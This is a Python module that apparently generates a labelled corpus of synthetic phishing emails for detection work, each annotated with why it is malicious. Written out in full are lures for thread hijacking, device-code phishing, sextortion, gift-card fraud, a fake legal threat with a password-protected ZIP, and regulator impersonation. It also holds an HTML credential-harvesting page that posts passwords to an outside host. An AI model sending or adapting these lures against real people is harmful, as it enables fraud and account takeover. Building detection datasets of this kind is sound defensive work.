"""Attack messages 09-16 (English)."""
from common import *
from people import *

F = "attack"
HARB_M365 = dict(srv="LO2P265MB5621", region="GBRP265", srv2="CWLP265MB3908",
                 eop=("GBR01-LO2-obe.outbound.protection.outlook.com",
                      "mail-lo2gbr01on2112.outbound.protection.outlook.com", "40.107.20.112"),
                 lang="en-GB", accept="en-GB, en-US")


def build(ref):
    rachel = C["harb"]["people"][0]
    # ------------------------------------------------------------ 09 thread hijack from compromised customer
    link = "https://brindley-tenderpack.harbourside-docs.workers.dev/?e=" + b64(OFFUK.email)
    prev = ref["B09_text"]
    JAMES_MID = "<9c41e7a2d05b4f1e8a36b2c7d9e0f514@EXCH02.corp.example.com>"
    text = dedent("""
        Hi James,

        Thanks again for the revised figures. Before we can sign off, our FD has asked for the final
        scope, the TUPE list and the draft contract to be checked on your side. I've put the updated
        tender pack in our secure document room:

        Brindley House - revised scope and contract (7 files)
        %s

        It's restricted to the tender panel, so you'll need to sign in with your work email. Could you
        have a look and confirm today if possible? We'd like to issue the award letter on Monday.

        Many thanks,
        Rachel

        Rachel Morgan
        Facilities Manager | Harbourside Properties Ltd
        Brindley House, 12 Canal Walk, Birmingham B1 2JR

        ________________________________
        From: James Whitfield <james.whitfield@example.com>
        Sent: 05 November 2026 16:40
        To: Rachel Morgan <rachel.morgan@harbourside-properties.co.uk>
        Subject: RE: Brindley House - cleaning & security services from January 2027

        Hi Rachel,

        Thanks, that all makes sense. Revised quote attached - the night guard now covers
        Saturdays as well and the window cleaning is quarterly. Happy to walk your FD through it.

        Best regards,
        James

        ________________________________
    """) % link + prev
    html = linkify(html_outlook(text, lang="EN-GB"), link, "Brindley House - revised scope and contract (7 files)")
    mail(F, 9, "en", "thread-hijack-compromised-customer",
         via=V(sd.m365, **HARB_M365), frm=rachel, to=[OFFUK.a],
         subject="RE: Brindley House - cleaning & security services from January 2027",
         in_reply_to=JAMES_MID, references=ref["B09"] + "\n " + JAMES_MID, t=L(11, 21, 2, 13, "UK"),
         body=alt(text, html, "utf-8", "quoted-printable"),
         what="Reply in a real quotation thread with the customer Harbourside Properties, linking to an 'updated tender pack'.",
         why="Sent from the customer's genuine but compromised M365 mailbox (passes authentication) at 02:13 on a Saturday; continues the genuine thread of B09 but the link leads to a Cloudflare Workers page demanding a sign-in with the recipient's work account (address embedded) - thread hijack for credential theft.",
         pair="B09")

    # ------------------------------------------------------------ 10 PayPal invoice abuse + callback (TOAD)
    inv = "INV2-8KQ4-7XZD-2R9M-5TLP"
    note = ("Your Norton 360 Total Protection (10 devices, 3 years) has been renewed successfully. "
            "The amount of £489.99 will be collected from your account within 24 hours. If you did not "
            "authorise this renewal or wish to cancel and receive a full refund, call our billing "
            "helpline on +44 20 3769 4187 (Mon-Sun, 8am-10pm).")
    paras = ["Norton Billing Centre sent you an invoice for <b>£489.99 GBP</b>.",
             "<b>Note from seller</b><br>" + esc(note),
             "Invoice number: %s<br>Due date: on receipt" % inv]
    html = brand_html("Here's your invoice", "#003087", paras, "View and Pay Invoice",
                      "https://www.paypal.com/invoice/p/#" + inv.replace("-", ""), lang="en", logo_text="PayPal",
                      footer="PayPal is committed to preventing fraudulent emails. Emails from PayPal will always "
                             "contain your full name.<br>Copyright © 1999-2026 PayPal. All rights reserved. PayPal "
                             "(Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg.")
    text = dedent("""
        Norton Billing Centre sent you an invoice for £489.99 GBP

        Note from seller:
        %s

        Invoice number: %s
        Due date: on receipt

        View and Pay Invoice: https://www.paypal.com/invoice/p/#%s

        Copyright © 1999-2026 PayPal. All rights reserved.
    """) % (note, inv, inv.replace("-", ""))
    mail(F, 10, "en", "paypal-invoice-callback-phishing", via=V(sd.paypal),
         frm=("service@paypal.co.uk", "service@paypal.co.uk"), to=[ACCUK.a],
         subject="Invoice from Norton Billing Centre (%s)" % inv, t=L(11, 3, 9, 17, "UK"),
         body=alt(text, html, "utf-8", "quoted-printable"),
         what="Genuine PayPal invoice e-mail issued by a 'Norton Billing Centre' merchant account for a £489.99 renewal.",
         why="Callback phishing (TOAD) abusing PayPal's genuine invoicing service, so the mail itself is authentic PayPal; the seller note pushes the victim to phone a fraudulent 'billing helpline' where remote-access/refund fraud follows. Example Group has no Norton subscription on PayPal.")

    # ------------------------------------------------------------ 11 device-code phishing
    text = dedent("""
        Dear James,

        Following our call on Tuesday, here are the details for the clarification session on the
        Midlands Estates FM framework (Lot 3 - Security & Reception Services), starting now.

        Because the tender room sits in our secured Microsoft 365 tenant, external bidders join
        through device authorisation rather than a normal meeting link:

        1. Go to https://microsoft.com/devicelogin
        2. Enter the code: GH7K2LMQP
        3. Sign in with your Example Group account - you will be admitted to the meeting
           automatically.

        The code is only valid for 15 minutes, so please use it straight away. If it has expired,
        just reply and I will issue a new one.

        Kind regards,

        Oliver Grant
        Senior Procurement Consultant
        Castlegate Procurement Partners
        Mobile: +44 7418 392017
    """)
    mail(F, 11, "en", "device-code-phishing-teams",
         via=V(sd.m365, srv="DB9P194MB1438", region="EURP194", srv2="PA4P194MB1092", consumer=True,
               eop=("EUR05-DB8-obe.outbound.protection.outlook.com",
                    "mail-db8eur05olkn2071.outbound.protection.outlook.com", "40.92.89.71"),
               lang="en-GB", accept="en-GB, en-US", mapi=True),
         frm=("Oliver Grant", "castlegate.procurement@outlook.com"), to=[OFFUK.a],
         subject="Lot 3 clarification session - joining details", t=L(11, 10, 9, 58, "UK"),
         body=alt(text, html_outlook(text, lang="EN-GB"), "utf-8", "quoted-printable"),
         what="'Procurement consultant' sends joining instructions for a tender clarification Teams session.",
         why="Device-code phishing: the genuine microsoft.com/devicelogin page with an attacker-generated code makes the victim authorise the attacker's session and hand over M365 tokens (bypasses MFA); consumer outlook.com sender, urgency ('valid 15 minutes'). Genuine Teams invites (B11) carry a meeting link, never a device code.",
         pair="B11")

    # ------------------------------------------------------------ 12 sextortion, spoofed own address, BTC
    text = dedent("""
        Hello James,

        I'll keep this short. Some months ago I got access to the devices you use to read your
        email. Your account james.whitfield@example.com was part of a leak, and through it I
        installed a small program on your computer that gives me full control of the camera,
        the microphone and the screen. As you can see, I am even writing to you from your own
        address.

        While you were visiting certain adult websites, the program recorded you through the
        camera, together with what was on your screen. I have also copied your contact list:
        colleagues, clients, family.

        If you want this to disappear, send USD 1450 in Bitcoin to this address:

        %s

        If you don't know how, search "buy bitcoin" - it takes ten minutes. You have 48 hours
        from the moment you open this message. I will see when it is opened. Once the payment
        arrives, the recordings are deleted and you will never hear from me again. If not, the
        video goes to every contact I copied.

        Do not reply to this email and do not go to the police - it changes nothing for me.
    """) % BTC
    mail(F, 12, "en", "sextortion-bitcoin-spoofed-self",
         via=V(sd.vps, helo="mail.transportes-rioverde.com.br", rdns="200-155-43-17.static.vivo.com.br",
               ip="200.155.43.17", client="none", tls=None, msgid_domain="example.com", zone="UTC",
               submit_from="User (unknown [45.137.21.9])"),
         frm=(OFFUK.name, OFFUK.email), to=[OFFUK.a], subject="Account james.whitfield@example.com compromised",
         t=L(12, 6, 4, 51, "UK"), body=Text(text, "us-ascii", "7bit"),
         what="Extortion: claims malware recorded the recipient and demands USD 1,450 in Bitcoin within 48 hours.",
         why="Sextortion scam with forged From (the recipient's own address) injected from a Brazilian host, no TLS; carries a valid bech32 Bitcoin address for payment; threats and deadline.")

    # ------------------------------------------------------------ 13 gift-card scam
    text = dedent("""
        Hi James,

        Are you in the office this afternoon? I need a favour, and I'd like to keep it between us
        for now.

        We are sending small thank-you gifts to the site managers of our key UK clients before
        Christmas and I want it to be a surprise. Could you pick up 8 Apple gift cards of £200 each
        (Tesco or Currys near the office should have them), scratch off the back and send me clear
        photos of the codes here? Priya will reimburse you tomorrow, I'll let her know.

        I'm in board meetings all day and can't take calls, so just reply by email.

        Thanks,
        Jürgen

        Sent from my iPhone
    """)
    mail(F, 13, "en", "gift-card-ceo-impersonation",
         via=V(sd.gmail, pfx="ej1", f=54, ip="209.85.218.54"),
         frm=("Jürgen Köhler", "koehler.juergen.office@gmail.com"), to=[OFFUK.a],
         subject="Quick favour", t=L(12, 10, 13, 22, "UK"),
         body=alt(text, html_gmail(text), "utf-8", "quoted-printable"),
         what="'CEO' from a Gmail address asks the UK office manager to buy £1,600 of Apple gift cards and send the codes.",
         why="Gift-card scam: CEO display name on a free Gmail account, secrecy, unreachable by phone, request for photos of card codes (untraceable funds).",
         pair="B13")

    # ------------------------------------------------------------ 14 fake solicitor, password ZIP
    pw = "HW0471"
    inner = "HW-LIT-26-0471_Letter_Before_Claim.pdf.lnk"
    z = docs.zip_files([(inner, ph(inner)),
                        ("Schedule_of_Unpaid_Invoices.xlsx.lnk", ph("Schedule_of_Unpaid_Invoices.xlsx.lnk"))],
                       password=pw, seed="a14", dt=(2026, 11, 12, 8, 47, 10))
    text = dedent("""
        Dear Sir or Madam,

        Our client: Severn Valley Hygiene Supplies Ltd
        Our reference: HW/LIT/26/0471
        Amount outstanding: £14,862.40

        We act for the above-named client in relation to unpaid invoices for cleaning consumables
        supplied to your Birmingham branch between May and August 2026.

        Despite repeated reminders, the sum set out above remains outstanding. This letter is sent
        in accordance with the Practice Direction on Pre-Action Conduct. Unless payment is received,
        or a substantive response is provided, within 14 days of the date of this letter, our client
        intends to issue proceedings in the County Court without further notice, and will seek
        statutory interest and costs.

        In line with our data protection policy, the formal Letter Before Claim and the schedule of
        invoices are attached as an encrypted archive. The password is: %s

        Yours faithfully,

        Daniel Ashworth
        Associate, Commercial Litigation
        Hargreaves Whitlock LLP
        3 Temple Row West, Birmingham B2 5NY
        Hargreaves Whitlock LLP is authorised and regulated by the Solicitors Regulation Authority.
    """) % pw
    mail(F, 14, "en", "fake-solicitor-password-zip",
         via=V(sd.vps, helo="mail.hargreaves-whitlock-law.co.uk", rdns="vps-3f8a2c1d.vps.ovh.net",
               ip="51.195.44.120", client="outlook16", zone="UK", mta="Exim"),
         frm=("Hargreaves Whitlock LLP", "litigation@hargreaves-whitlock-law.co.uk"), to=[ACCUK.a],
         subject="Letter Before Claim – Ref HW/LIT/26/0471 – Example Group UK Limited",
         t=L(11, 12, 8, 47, "UK"),
         body=mixed(alt(text, html_outlook(text, lang="EN-GB"), "utf-8", "quoted-printable"),
                    Attachment(z, "application/x-zip-compressed", "HW-LIT-26-0471.zip", name_style="2047")),
         what="'Letter before claim' from a law firm over £14,862.40 of unpaid invoices, documents in an encrypted ZIP.",
         why="Fake lawyer / legal-threat malspam: unknown supplier and firm on a VPS domain, password-protected ZIP (ZipCrypto) to defeat scanning, containing .pdf.lnk / .xlsx.lnk double-extension shortcuts (inert placeholders here).",
         pair="B14", zip_pw=pw)

    # ------------------------------------------------------------ 15 Companies House ID-verification phish (SES)
    link = "https://companieshouse-idverify.uk/verify?company=12873465&ref=CH-IDV-5528107"
    paras = ["Company number: 12873465<br>Company name: EXAMPLE GROUP UK LIMITED",
             "Our records show that identity verification has not been completed for 1 director "
             "(KOEHLER, Juergen) of this company. The deadline for providing a verified personal code was "
             "<b>the company's confirmation date, 14 November 2026</b>.",
             "Failure to verify is an offence under the Economic Crime and Corporate Transparency Act 2023. "
             "The company's register will be annotated and a financial penalty may be imposed.",
             "You can still verify online. It takes around 10 minutes and you will need the company "
             "authentication code and a photo ID."]
    html = brand_html("Identity verification overdue", "#0b0c0c", paras, "Verify identity now", link,
                      lang="en", logo_text="GOV.UK | Companies House",
                      footer="Companies House, Crown Way, Cardiff, CF14 3UZ<br>This is an automated email - "
                             "please do not reply.")
    text = dedent("""
        Company number: 12873465
        Company name: EXAMPLE GROUP UK LIMITED

        Identity verification overdue

        Our records show that identity verification has not been completed for 1 director
        (KOEHLER, Juergen) of this company. The deadline for providing a verified personal code was
        the company's confirmation date, 14 November 2026.

        Failure to verify is an offence under the Economic Crime and Corporate Transparency Act
        2023. The company's register will be annotated and a financial penalty may be imposed.

        Verify identity now: %s

        Companies House
    """) % link
    mail(F, 15, "en", "companies-house-idv-phish",
         via=V(sd.ses, region="eu-west-2", client_ip="18.132.40.77", client_rdns="ec2-18-132-40-77.eu-west-2.compute.amazonaws.com"),
         frm=("Companies House", "no-reply@companieshouse-idverify.uk"), to=[ACCUK.a],
         subject="Action required: director identity verification overdue - EXAMPLE GROUP UK LIMITED",
         t=L(11, 17, 10, 4, "UK"), body=alt(text, html, "utf-8", "quoted-printable"),
         what="'Companies House' warns that director ID verification is overdue and threatens penalties.",
         why="Regulator impersonation: sent via Amazon SES from companieshouse-idverify.uk (not gov.uk), link to a look-alike portal that asks for the company authentication code and ID documents; real ID verification runs through GOV.UK One Login (compare genuine B15).",
         pair="B15")

    # ------------------------------------------------------------ 16 HTML attachment credential harvester
    att = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Sign in to your account</title>\n'
           '<style>body{margin:0;background:#f2f2f2;font-family:"Segoe UI",Arial,sans-serif}'
           '.box{width:380px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
           'input{width:100%%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}'
           'button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right;font-size:15px}</style>'
           '</head>\n<body><div class="box">\n<div style="font-size:20px;font-weight:600;color:#5e5e5e">Microsoft'
           '</div>\n<p style="font-size:14px">Remittance_Advice_BPH-REM-20261119.pdf is protected. Verify your '
           'identity to view the document.</p>\n<form method="post" action="https://remit-view.bph-docs.com/api/v2/auth">'
           '\n<input type="email" name="login" value="%s" readonly>\n<input type="password" name="passwd" '
           'placeholder="Password">\n<button type="submit">Sign in</button>\n</form>\n</div></body></html>\n'
           % ACCUK.email)
    text = dedent("""
        Good morning,

        Please find attached our remittance advice for the payment released today.

        Kind regards,

        Accounts Team
        Birchfield Plumbing & Heating Ltd
        Unit 4, Lodge Road Trade Park, Birmingham B18 5PN
        0121 507 3344
    """)
    mail(F, 16, "en", "html-attachment-remittance-harvester",
         via=V(sd.exim_cpanel, server="uk-shared14.fasthostuk.net", server_ip="185.151.30.147",
               client_ip="102.89.34.201", client="roundcube", zone="UK"),
         frm=("Birchfield Plumbing & Heating Ltd", "accounts@birchfieldplumbing.co.uk"), to=[ACCUK.a],
         subject="Remittance Advice - BPH-REM-20261119", t=L(11, 19, 7, 26, "UK"),
         body=mixed(Text(text, "utf-8", "8bit"),
                    Attachment(att.encode(), "text/html", "Remittance_Advice_BPH-REM-20261119.html", charset="utf-8")),
         what="Remittance advice from a small plumbing firm with an HTML attachment.",
         why="Compromised small-business mailbox on shared cPanel hosting (login from a Nigerian IP) sends an HTML file that renders a fake Microsoft sign-in with the recipient's address pre-filled and posts the password to bph-docs.com; a real remittance advice is a PDF (see B16).",
         pair="B16")
